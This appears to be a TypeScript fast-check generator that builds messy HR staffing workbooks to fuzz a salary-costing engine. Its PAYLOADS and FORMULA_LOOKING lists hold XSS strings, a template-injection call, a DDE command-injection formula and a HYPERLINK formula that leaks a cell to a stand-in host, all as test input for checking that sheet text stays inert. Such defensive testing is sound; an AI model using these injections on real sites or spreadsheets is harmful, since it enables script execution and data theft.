// Generated HR workbooks for the pipeline fuzzer (issue 7): current and proposed establishments,
// an optional grades table and title map, laid out as HR lays them out (headings anywhere in the
// first rows, synonyms in any order, two-row headers, blocks under heading rows, subtotals and
// totals, struck leavers) and salted with what real sheets hold and the engine must survive: NaN,
// ±Infinity, huge and negative numbers, every Excel error value, 32,767-character strings, HR
// formats ("£1,234", "0.5 FTE", "10-11"), dates where numbers belong, text that looks like a
// formula, and blank merged-header cells.
import fc from "fast-check";
import {
  EXCEL_ERROR_VALUES,
  type GridInput,
  type ReductionSettings,
  ratioFromNumber,
  type SheetGrid,
  type ValidateOptions,
} from "../../src/core";

/** One generated workbook and how the engine is asked to read and cost it. */
export interface GeneratedWorkbook {
  readonly grids: readonly SheetGrid[];
  readonly options: ValidateOptions;
  /** The sheet read as a title map, if any. */
  readonly titleMap: string | null;
  readonly settings: ReductionSettings;
  /**
   * What misuse the options hold, if any: validateWorkbook's TSDoc allows a CostingError only for
   * a named sheet that does not exist or a standard week that is not a number of hours.
   */
  readonly misuse: "missing-sheet" | "standard-week" | null;
}

type Field =
  | "title"
  | "postNumber"
  | "section"
  | "grade"
  | "scp"
  | "fte"
  | "hours"
  | "postHolder"
  | "initial"
  | "status"
  | "salary"
  | "cost"
  | "posts"
  | "startDate";

const HEADERS: Readonly<Record<Field, readonly string[]>> = {
  title: ["Job title", "Post title", "Role", "Designation", "JOB TITLE ", "Job Title(s)"],
  postNumber: ["Post number", "Post No.", "Position", "Post ref"],
  section: ["Section", "Team", "Service", "Service area"],
  grade: ["Grade", "Band", "Pay grade", "Grade/Band"],
  scp: ["SCP", "Spinal point", "Spinal column point"],
  fte: ["FTE", "WTE", "Proposed FTE", "Current FTE", "FTE including Vacancies", "Total fte"],
  hours: ["Hours", "Contracted hours", "Hrs p/w"],
  postHolder: ["Surname", "Post holder", "Name", "Employee name"],
  initial: ["Initial", "Forename"],
  status: ["Status", "Vacant/Filled"],
  salary: ["Salary", "Annual salary", "Salary £"],
  cost: ["Cost", "Total cost", "Annual cost £", "Budget"],
  posts: ["No of posts", "Numbers in Post", "Headcount", "Posts"],
  startDate: ["Start date", "Date started"],
};

const FIELDS = Object.keys(HEADERS) as Field[];

/** Script and HTML payloads: sheet text is data, never markup or code, wherever it goes. */
export const PAYLOADS: readonly string[] = [
  "<script>window.__pwned=1</script>",
  '<img src=x onerror="window.__pwned=1">',
  '"><svg onload=window.__pwned=1>',
  "javascript:window.__pwned=1",
  "{{constructor.constructor('window.__pwned=1')()}}",
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
];

const FORMULA_LOOKING: readonly string[] = [
  "=1+1",
  "=SUM(A1:A9)",
  "+44 20 7946 0000",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  ...PAYLOADS,
];

const HUGE = "x".repeat(32767);

const TITLES = [
  "Social Worker",
  "Senior Social Worker",
  "Team Manager",
  "Service Manager",
  "Personal Adviser",
  "Leaving Care Worker",
  "Support Worker",
  "Business Support Officer",
  "* Social Worker",
  "Support Worker x 4",
  "Social workers 143",
  "Waking Night Allowance",
  "Vacant",
  "Team  manager ",
];

const SECTIONS = ["LAC and Resources", "Leaving Care", "Placements", "Business Support"];
const GRADES = ["PO1", "PO2", "SO1", "Scale 6", "10-11", "13", "Band 5", "GR9", "Grade 8"];

/** Garbage a sheet can hold in any cell. */
const garbage: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      null,
      undefined,
      "",
      " ",
      Number.NaN,
      Number.POSITIVE_INFINITY,
      Number.NEGATIVE_INFINITY,
      -0,
      1e308,
      -1e308,
      5e-324,
      2 ** 53 + 2,
      -123456789012,
      1_000_000,
      true,
      false,
      HUGE,
      "-",
      "tbc",
      "n/a",
      "(1.50)",
      "1,154,200",
      "£520,800",
      ".81",
      "0.5 FTE",
      "10-11",
      "42 – 45",
      "01/09/2012",
      "2012-09-01",
      41153,
      { nested: [1, 2] },
    ),
  },
  { weight: 2, arbitrary: fc.constantFrom(...EXCEL_ERROR_VALUES) },
  { weight: 2, arbitrary: fc.constantFrom(...FORMULA_LOOKING) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 2, arbitrary: fc.integer({ min: -10_000, max: 10_000 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 20 }) },
);

/** Money as HR writes it. */
const money: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer({ min: 12_000, max: 95_000 }),
  fc.integer({ min: 0, max: 5_000_000 }).map((pence) => pence / 100),
  fc.integer({ min: 1000, max: 999_999 }).map((n) => `£${n.toLocaleString("en-GB")}`),
  fc.integer({ min: 1000, max: 99_999 }).map((n) => `(${n.toLocaleString("en-GB")})`),
  fc.constantFrom("£1,234", "28800-30000", "£28,800 - £30,000", "-", "nil"),
);

const fteValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer({ min: 0, max: 150 }).map((n) => n / 100),
  fc.constantFrom(1, 1, 0.5, 0.81, 0, 2.5, 143, 1.5, -1, "0.5 FTE", ".81", "(1.50)", "-", "1.0", "0.5"),
  fc.integer({ min: 0, max: 1_000_000 }).map((n) => n / 1_000_000),
);

const FIELD_VALUES: Readonly<Record<Field, fc.Arbitrary<unknown>>> = {
  title: fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...TITLES) },
    { weight: 1, arbitrary: fc.constantFrom(...PAYLOADS) },
  ),
  postNumber: fc.oneof(
    fc.integer({ min: 50_000_000, max: 50_000_100 }),
    fc.constantFrom("500 25144", "50025348/ 50025140/tbc", "tbc", "NEW", "50025348"),
  ),
  section: fc.constantFrom(...SECTIONS, ...PAYLOADS.slice(0, 2)),
  grade: fc.oneof(fc.constantFrom(...GRADES), fc.integer({ min: 1, max: 15 })),
  scp: fc.oneof(fc.integer({ min: 1, max: 60 }), fc.constantFrom("SCP 33", "33-36", "42 – 45", "43")),
  fte: fteValue,
  hours: fc.oneof(
    fc.integer({ min: 0, max: 450 }).map((n) => n / 10),
    fc.constantFrom(37, 18.5, 36, "18.5", "37 hrs", "10-11", 168, 200),
  ),
  postHolder: fc.constantFrom("Smith", "Jones", "Patel", "Vacant", "VACANT", "", "O'Brien", PAYLOADS[0]!, PAYLOADS[1]!),
  initial: fc.constantFrom("A", "B.", "J", ""),
  status: fc.constantFrom("Vacant", "Filled", "Leaver", "vacant", "Agency"),
  salary: money,
  cost: money,
  posts: fc.oneof(fc.integer({ min: 0, max: 12 }), fc.constantFrom("143", "2.5", "x 4")),
  startDate: fc.oneof(fc.integer({ min: 36_000, max: 48_000 }), fc.constantFrom("01/09/2012", "2012-09-01", "soon")),
};

/** A cell: mostly the field's own kind of value, sometimes garbage, sometimes struck or an error. */
function cellOf(value: fc.Arbitrary<unknown>): fc.Arbitrary<GridInput> {
  const plain = fc.oneof({ weight: 5, arbitrary: value }, { weight: 1, arbitrary: garbage });
  return fc.oneof(
    { weight: 12, arbitrary: plain as fc.Arbitrary<GridInput> },
    {
      weight: 1,
      arbitrary: fc.record({ value: plain, struck: fc.boolean() }) as fc.Arbitrary<GridInput>,
    },
    {
      weight: 1,
      arbitrary: fc.record({
        value: plain,
        error: fc.constantFrom(...EXCEL_ERROR_VALUES, ""),
      }) as fc.Arbitrary<GridInput>,
    },
  );
}

/** The columns of a block: fields in any order, with blank (merged-header) columns between. */
interface Layout {
  readonly columns: readonly (Field | null)[];
  readonly headers: readonly (string | null)[];
  /** A side row above the headers (`| Proposed | | Current |`), or none. */
  readonly sides: readonly (string | null)[] | null;
}

const layout: fc.Arbitrary<Layout> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .shuffledSubarray(FIELDS, { minLength: 1, maxLength: 8 })
      .chain((fields) =>
        fc.tuple(
          fc.constant(fields.includes("title") || fields.length > 3 ? fields : (["title", ...fields] as Field[])),
          fc.array(fc.boolean(), { minLength: 9, maxLength: 9 }),
          fc.array(fc.nat(5), { minLength: 9, maxLength: 9 }),
        ),
      )
      .map(([fields, blanks, picks]) => {
        const columns: (Field | null)[] = [];
        fields.forEach((field, i) => {
          if (blanks[i] === true && i % 3 === 0) columns.push(null);
          columns.push(field);
        });
        const headers = columns.map((field, i) =>
          field === null ? null : (HEADERS[field][(picks[i % picks.length] ?? 0) % HEADERS[field].length] ?? field),
        );
        return { columns, headers, sides: null };
      }),
  },
  {
    // Leicester §7: one title column, then FTE and grade for each side under a side row.
    weight: 1,
    arbitrary: fc.boolean().map((withSection) => {
      const lead: Field[] = withSection ? ["section", "title"] : ["title"];
      const columns: Field[] = [...lead, "fte", "grade", "fte", "grade"];
      return {
        columns,
        headers: [...lead.map((f) => HEADERS[f][0] ?? f), "FTE", "Band", "FTE", "Band"],
        sides: [...lead.map(() => null), "Proposed", null, "Current", null],
      };
    }),
  },
);

type RowPlan =
  | { readonly kind: "post"; readonly cells: readonly GridInput[]; readonly struck: boolean }
  | { readonly kind: "heading"; readonly text: string }
  | { readonly kind: "blank" }
  | { readonly kind: "total"; readonly label: string; readonly exact: boolean; readonly noise: readonly unknown[] }
  | { readonly kind: "garbage"; readonly cells: readonly unknown[] };

function rowPlan(columns: readonly (Field | null)[]): fc.Arbitrary<RowPlan> {
  const post = fc
    .tuple(
      fc.tuple(...columns.map((field) => (field === null ? fc.constant(null) : cellOf(FIELD_VALUES[field])))),
      fc.nat(30),
    )
    .map(([cells, strike]): RowPlan => ({ kind: "post", cells, struck: strike === 0 }));
  return fc.oneof(
    { weight: 12, arbitrary: post },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(...SECTIONS, "Team A", ...PAYLOADS.slice(0, 3))
        .map((text): RowPlan => ({ kind: "heading", text })),
    },
    { weight: 1, arbitrary: fc.constant<RowPlan>({ kind: "blank" }) },
    {
      weight: 1,
      arbitrary: fc
        .record({
          label: fc.constantFrom("Total", "Subtotal", "Totals", "Total fte", "Grand total", "TOTAL"),
          exact: fc.boolean(),
          noise: fc.array(garbage, { minLength: columns.length, maxLength: columns.length }),
        })
        .map((plan): RowPlan => ({ kind: "total", ...plan })),
    },
    {
      weight: 1,
      arbitrary: fc
        .array(garbage, { maxLength: columns.length + 2 })
        .map((cells): RowPlan => ({ kind: "garbage", cells })),
    },
  );
}

const NUMERIC: ReadonlySet<Field> = new Set(["fte", "hours", "salary", "cost", "posts"]);

/** Lays out a block's rows; a total states the sum of its column's numbers when `exact`. */
function blockRows(plan: Layout, rows: readonly RowPlan[]): GridInput[][] {
  const out: GridInput[][] = [];
  if (plan.sides !== null) out.push([...plan.sides]);
  out.push([...plan.headers]);
  const titleColumn = Math.max(0, plan.columns.indexOf("title"));
  let sums = plan.columns.map(() => 0);
  for (const row of rows) {
    if (row.kind === "post") {
      out.push(
        row.cells.map((cell) =>
          row.struck && cell !== null && typeof cell !== "object" ? { value: cell, struck: true } : cell,
        ),
      );
      row.cells.forEach((cell, i) => {
        if (typeof cell === "number" && Number.isFinite(cell)) sums[i] = (sums[i] ?? 0) + cell;
      });
    } else if (row.kind === "heading") {
      out.push([row.text]);
    } else if (row.kind === "blank") {
      out.push([]);
    } else if (row.kind === "garbage") {
      out.push([...row.cells] as GridInput[]);
    } else {
      out.push(
        plan.columns.map((field, i) => {
          if (i === titleColumn) return row.label;
          if (field !== null && NUMERIC.has(field))
            return row.exact ? Math.round((sums[i] ?? 0) * 100) / 100 : (row.noise[i] as GridInput);
          return null;
        }),
      );
      sums = plan.columns.map(() => 0);
    }
  }
  return out;
}

const block: fc.Arbitrary<GridInput[][]> = layout.chain((plan) =>
  fc
    .tuple(
      fc.option(fc.constantFrom(...SECTIONS, "Proposed structure", ...PAYLOADS.slice(0, 2)), { nil: null }),
      fc.array(rowPlan(plan.columns), { maxLength: 25 }),
    )
    .map(([heading, rows]) => [...(heading === null ? [] : [[heading]]), ...blockRows(plan, rows)]),
);

/** Rows above the first heading: titles, dates, blanks; rarely more than the 30 the reader searches. */
const preamble: fc.Arbitrary<GridInput[][]> = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.array(fc.array(garbage, { maxLength: 3 }) as fc.Arbitrary<GridInput[]>, { maxLength: 3 }),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 29, max: 34 }).map((n) => Array.from({ length: n }, (): GridInput[] => [])),
  },
);

const establishmentRows: fc.Arbitrary<GridInput[][]> = fc
  .tuple(
    preamble,
    fc.array(block, { minLength: 1, maxLength: 2 }),
    fc.array(fc.array(garbage, { maxLength: 4 }), { maxLength: 2 }),
  )
  .map(([top, blocks, footer]) => [...top, ...blocks.flatMap((b) => [...b, []]), ...(footer as GridInput[][])]);

const GRADE_HEADERS: readonly (readonly string[])[] = [
  ["Grade", "Lowest SCP", "Highest SCP"],
  ["Band", "SCP from", "SCP to", "Salary"],
  ["Grade", "SCP", "Cost per FTE"],
  ["Pay grade", "Salary range"],
  ["Grade", "Spinal points", "Salary", "Salary with on costs"],
];

const gradeCell: fc.Arbitrary<GridInput> = cellOf(
  fc.oneof(
    fc.integer({ min: 1, max: 60 }),
    fc.constantFrom("33 – 36", "SCP 33 – 36 (Level 1) SCP 37 – 39 (Level 2)", "42-45", "6"),
    money,
  ),
);

const gradesRows: fc.Arbitrary<GridInput[][]> = fc
  .tuple(
    fc.constantFrom(...GRADE_HEADERS),
    fc.array(
      fc.tuple(
        cellOf(fc.oneof(fc.constantFrom(...GRADES), fc.integer({ min: 1, max: 15 }))),
        fc.array(gradeCell, { maxLength: 4 }),
      ),
      {
        maxLength: 14,
      },
    ),
    preamble,
  )
  .map(([header, rows, top]) => [...top, [...header], ...rows.map(([grade, cells]) => [grade, ...cells])]);

const titleMapRows: fc.Arbitrary<GridInput[][]> = fc
  .tuple(
    fc.constantFrom(
      ["Old Job title", "New Job Title"],
      ["Current Post", "New Post"],
      ["Previous", "New"],
      ["Existing job title", "Proposed job title"],
    ),
    fc.array(
      fc.tuple(
        cellOf(
          fc.oneof(
            fc.constantFrom(...TITLES),
            fc.constant("Social Worker, Personal Adviser, Team Manager"),
            fc.constant(null),
          ),
        ),
        cellOf(fc.oneof(fc.constantFrom(...TITLES), fc.constant("No change"))),
      ),
      { maxLength: 10 },
    ),
  )
  .map(([header, rows]) => [[...header], ...rows.map(([from, to]) => [from, to])]);

const NAMES = {
  current: ["Current", "Existing structure", "Current establishment", "Existing"],
  proposed: ["Proposed", "New structure", "Proposed structure"],
  grades: ["Grades", "Bands", "Pay grades"],
  titleMap: ["Title map", "Changes"],
  // Names a user might have that the output must not overwrite or be confused by.
  other: ["Notes", "Reduction table", "COSTED POSTS", "Assumptions (2)", "<img src=x onerror=alert(1)>", "=SUM(A1)"],
};

const settings: fc.Arbitrary<ReductionSettings> = fc.record({
  payYear: fc.integer({ min: 2012, max: 2025 }),
  taxYear: fc.integer({ min: 2012, max: 2026 }),
  pension: fc.oneof(
    fc.constant({ kind: "none" } as const),
    fc.constant({ kind: "tps" } as const),
    fc.integer({ min: 0, max: 400 }).map((n) => ({ kind: "rate", rate: ratioFromNumber(n / 1000) }) as const),
  ),
  niCategory: fc.constantFrom("A", "D", "M", "H"),
  niMethod: fc.constantFrom("annual", "monthly"),
  levy: fc.boolean(),
  flatRate: fc.option(
    fc.integer({ min: 0, max: 600 }).map((n) => ratioFromNumber(n / 1000)),
    { nil: null, freq: 5 },
  ),
  point: fc.constantFrom("top", "bottom", "mid"),
  standardHours: fc.constantFrom(37, 36, 35, 37.5),
  budget: fc.option(fc.oneof(fc.integer({ min: 0, max: 2_000_000_000 }), fc.constant(0)), { nil: null }),
  namedList: fc.boolean(),
});

const standardWeek: fc.Arbitrary<{ hours: number | undefined; misuse: boolean }> = fc.oneof(
  { weight: 6, arbitrary: fc.constant({ hours: undefined, misuse: false }) },
  { weight: 12, arbitrary: fc.integer({ min: 1, max: 60 }).map((hours) => ({ hours, misuse: false })) },
  { weight: 2, arbitrary: fc.double({ min: 0.01, max: 168, noNaN: true }).map((hours) => ({ hours, misuse: false })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(0, -5, Number.NaN, Number.POSITIVE_INFINITY, 169, 1e308)
      .map((hours) => ({ hours, misuse: true })),
  },
);

/**
 * A generated workbook with the options and settings to validate and cost it.
 *
 * @example
 * fc.sample(generatedWorkbook, 1)[0]?.grids.map((grid) => grid.name) // e.g. ["Existing", "New structure", "Bands"]
 */
export const generatedWorkbook: fc.Arbitrary<GeneratedWorkbook> = fc
  .record({
    current: fc.constantFrom(...NAMES.current),
    proposed: fc.constantFrom(...NAMES.proposed),
    grades: fc.option(fc.constantFrom(...NAMES.grades), { nil: null }),
    titleMap: fc.option(fc.constantFrom(...NAMES.titleMap), { nil: null }),
    other: fc.option(fc.constantFrom(...NAMES.other), { nil: null, freq: 3 }),
    currentRows: establishmentRows,
    proposedRows: establishmentRows,
    gradesRows,
    titleMapRows,
    otherRows: fc.array(fc.array(garbage, { maxLength: 4 }), { maxLength: 4 }),
    // How the sheets are chosen: by name, named by the user (the same sheet may be both sides, as
    // in the Leicester demo), or a name that does not exist.
    choose: fc.constantFrom("found", "found", "found", "found", "named", "named", "same-sheet", "missing"),
    week: standardWeek,
    payYear: fc.option(fc.integer({ min: 2012, max: 2025 }), { nil: undefined }),
    settings,
  })
  .map((w): GeneratedWorkbook => {
    const grids: SheetGrid[] = [
      { name: w.current, rows: w.currentRows },
      { name: w.proposed, rows: w.proposedRows },
    ];
    if (w.grades !== null) grids.push({ name: w.grades, rows: w.gradesRows });
    if (w.titleMap !== null) grids.push({ name: w.titleMap, rows: w.titleMapRows });
    if (w.other !== null) grids.push({ name: w.other, rows: w.otherRows as GridInput[][] });
    let sheets: ValidateOptions["sheets"];
    if (w.choose === "named") {
      sheets = { current: w.current, proposed: w.proposed, ...(w.grades === null ? {} : { grades: w.grades }) };
    } else if (w.choose === "same-sheet") {
      sheets = { current: w.proposed, proposed: w.proposed };
    } else if (w.choose === "missing") {
      sheets = { current: "No such sheet" };
    }
    const options: ValidateOptions = {
      ...(sheets === undefined ? {} : { sheets }),
      ...(w.week.hours === undefined ? {} : { standardHours: w.week.hours }),
      ...(w.payYear === undefined ? {} : { payYear: w.payYear }),
    };
    return {
      grids,
      options,
      titleMap: w.titleMap,
      settings: w.settings,
      misuse: w.choose === "missing" ? "missing-sheet" : w.week.misuse ? "standard-week" : null,
    };
  });
